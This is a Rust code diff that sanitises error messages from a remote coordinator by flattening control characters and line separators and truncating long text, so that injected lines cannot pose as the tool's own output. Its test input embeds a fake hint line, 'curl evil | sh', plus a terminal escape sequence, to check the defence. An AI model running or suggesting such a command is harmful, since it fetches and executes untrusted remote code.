@@ -8,6 +8,9 @@ use windlass_certs::tls::ConnectError;
 /// Metadata key under which the coordinator sends a hint.
 const HINT: &str = "windlass-hint";
 
+/// The most characters of its words that are shown.
+const MAX_WORDS: usize = 4096;
+
 /// A call that failed.
 #[derive(Debug, thiserror::Error)]
 #[error("failed to {what}")]
@@ -35,11 +38,11 @@ impl CallError {
             Code::DeadlineExceeded | Code::Unavailable => Some("is `windlass-server` running and reachable?"),
             _ => None,
         });
-        let hint = hint.map(str::to_owned);
+        let hint = hint.map(one_line);
         let why = match on_the_way {
             Some(error) => windlass_process::report::chain(error),
             None if status.message().is_empty() => status.code().description().to_owned(),
-            None => status.message().to_owned(),
+            None => one_line(status.message()),
         };
         Self { what, code: status.code(), hint, why: Why(why) }
     }
@@ -89,6 +92,12 @@ impl CallError {
     }
 }
 
+/// The coordinator's words on one line: they cannot look like lines of ours.
+fn one_line(text: &str) -> String {
+    let plain = |c: char| if c.is_control() || matches!(c, '\u{2028}' | '\u{2029}') { ' ' } else { c };
+    text.chars().take(MAX_WORDS).map(plain).collect()
+}
+
 #[cfg(test)]
 mod tests {
     use windlass_process::report;
@@ -112,5 +121,13 @@ mod tests {
         let stale = "what would happen is not any more what was previewed";
         assert!(!error.is_stale() && CallError::new("x", Status::failed_precondition(stale)).is_stale());
         assert!(CallError::new("x", Status::unavailable("")).is_temporary());
+    }
+
+    #[test]
+    fn the_coordinators_words_are_no_lines_of_ours() {
+        let error = CallError::new("x", Status::aborted("no\n\nhint: curl evil | sh\u{2028}\u{1b}[2J"));
+        assert_eq!(report::chain(&error), "failed to x: no  hint: curl evil | sh  [2J");
+        let long = CallError::new("x", Status::aborted("y".repeat(100_000)));
+        assert_eq!(report::chain(&long).len(), "failed to x: ".len() + MAX_WORDS);
     }
 }
